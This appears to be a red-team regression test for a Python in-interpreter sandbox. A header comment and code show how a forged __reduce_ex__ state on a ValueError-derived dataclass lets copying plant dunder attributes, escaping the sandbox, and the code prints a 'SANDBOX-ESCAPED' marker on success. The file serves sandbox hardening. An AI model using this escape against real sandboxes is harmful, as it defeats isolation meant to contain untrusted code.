# mypy: ignore-errors
# Technique: copy's state for a `__setstate__` the plugin did not write was checked only when
# it was an exact `dict` (or a tuple ending in one); `BaseException.__setstate__` takes any
# dict and sets each key as an attribute. A plugin object's `__reduce_ex__` returning a
# plugin dataclass deriving from `ValueError` with a `dict` subclass as state set any
# attribute, dunders included, on the copy: an instance `__dataclass_fields__` whose field
# `__setstate__` `dataclasses.replace()` then read natively (a dunder value handed to the
# plugin, and through it a write of any name, `__class__` included). Found in the ninth
# red-team pass of the in-interpreter layer; planted a dunder attribute on 3.11-3.13 before
# the fix (the state's dicts, subclasses too, are checked like the state copy sets itself).
import collections
import dataclasses

U = "_" * 2
got = []


class State(dict):
    pass


@dataclasses.dataclass(init=False)
class Boom(ValueError):
    note: str = "x"

    def __init__(self, **kwargs):
        got.append(kwargs)

    def update(self, other):
        pass


class Planter:
    data = None

    def update(self, other):
        pass

    def __reduce_ex__(self, proto):
        forged = dataclasses.field()
        forged.name = U + "setstate" + U
        return (Boom, (), State({U + "dataclass_fields" + U: {"x": forged}}))


def attack(secret_path, canary_path):
    planted = collections.UserDict.copy(Planter())
    dataclasses.replace(planted)
    if U + "setstate" + U in got[-1]:
        print("SANDBOX-" + "ESCAPED")
    return sorted(got[-1])
